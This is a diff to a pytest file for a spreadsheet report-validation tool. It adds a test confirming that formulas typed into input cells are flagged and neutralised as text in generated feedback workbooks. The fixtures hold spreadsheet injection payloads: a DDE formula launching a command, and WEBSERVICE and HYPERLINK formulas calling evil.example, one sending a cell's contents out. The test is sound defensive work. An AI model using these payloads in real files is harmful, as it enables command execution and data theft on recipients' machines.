@@ -114,7 +114,7 @@ LINKS = [None, "'一、总体情况'!B5", "'二、主动公开'!B7", "'三、依
 COMMENTS = {
     (CODE.sheet, "B5"): f"【错误】统一社会信用代码格式不正确\n应为：18位代码；实际：{INJECTION}",
     (ISSUED.sheet, "B7"): "【警告】未填写，按 0 处理",
-    (TOTAL.sheet, "D31"): "1. 【错误】合计应等于各项之和\n应为：10；实际：12\n2. 【警告】数字以文本形式存储\n实际：12",
+    (TOTAL.sheet, "D31"): "1. 【错误】合计应等于各项之和\n2. 【警告】数字以文本形式存储\n实际：12",
 }
 FILLED = {(CODE.sheet, "B5"): RED, (ISSUED.sheet, "B7"): YELLOW, (TOTAL.sheet, "D31"): RED}
 
@@ -255,7 +255,7 @@ def test_title_line_and_english(source: Path, tmp_path: Path) -> None:
         ("No.", "Level", "Location", "Code", "Message", "Expected", "Found"),
         (1, "Error", "三、依申请公开!D31", "R1", "total must equal the sum", 10, 12),
     ]
-    assert wb[TOTAL.sheet][TOTAL.a1].comment.text == "【Error】total must equal the sum\nExpected: 10; Found: 12"
+    assert wb[TOTAL.sheet][TOTAL.a1].comment.text == "【Error】total must equal the sum"  # a rule names both sides
     with pytest.raises(ValueError):
         write_feedback(source, [], tmp_path / "x.xlsx", lang="fr")
 
@@ -487,3 +487,40 @@ def test_safe_text_is_always_storable(text: str) -> None:
     wb.save(io.BytesIO())  # openpyxl refuses illegal characters: this must never raise
     assert len(out.encode("utf-16-le", "surrogatepass")) <= 2 * MAX_CELL_CHARS
     assert not out.startswith(("=", "@", "\t", "\r", "\n"))  # +5 and -5 are numbers, left alone
+
+
+LIVE = {
+    "/proactive/regulations/issued": "=cmd|' /C calc'!A0",
+    "/proactive/regulations/repealed": '=WEBSERVICE("http://evil.example/?d="&B4)',
+    "/organization/name": '=HYPERLINK("http://evil.example/","点此")',
+}
+
+
+def _sheet_xml(path: Path, sheet: str) -> str:
+    names = openpyxl.load_workbook(path, read_only=True).sheetnames
+    with zipfile.ZipFile(path) as z:
+        return z.read(f"xl/worksheets/sheet{names.index(sheet) + 1}.xml").decode("utf-8")
+
+
+def test_formulas_typed_into_inputs_are_text_in_the_feedback(source: Path, tmp_path: Path) -> None:
+    """A formula a user typed (DDE, WEBSERVICE, HYPERLINK) must not run again on the machines the
+    feedback goes to: the copy keeps its text as a string and drops the formula; totals stay live."""
+    from xltool.read.reader import read_workbook
+
+    wb = openpyxl.load_workbook(source)
+    for pointer, formula in LIVE.items():
+        wb[box(pointer).sheet][box(pointer).a1] = formula
+    wb.save(source)
+    before = _sheet_xml(source, ISSUED.sheet)
+    assert "<f>cmd|' /C calc'!A0</f>" in before
+    result = read_workbook(source, model=MODEL)
+    assert {i.pointer for i in result.issues if i.code == "FORMULA_IN_INPUT"} == set(LIVE)
+    out = write_feedback(source, result.issues, tmp_path / "feedback.xlsx")
+
+    back = openpyxl.load_workbook(out)
+    got = {p: (back[box(p).sheet][box(p).a1].data_type, back[box(p).sheet][box(p).a1].value) for p in LIVE}
+    assert got == {p: ("s", formula) for p, formula in LIVE.items()}
+    after = _sheet_xml(out, ISSUED.sheet) + _sheet_xml(out, box("/organization/name").sheet)
+    assert not re.search(r"<f>[^<]*(cmd\||WEBSERVICE|HYPERLINK)", after)
+    total = back[TOTAL.sheet][TOTAL.a1]
+    assert (total.data_type, str(total.value).startswith("=SUM(")) == ("f", True)
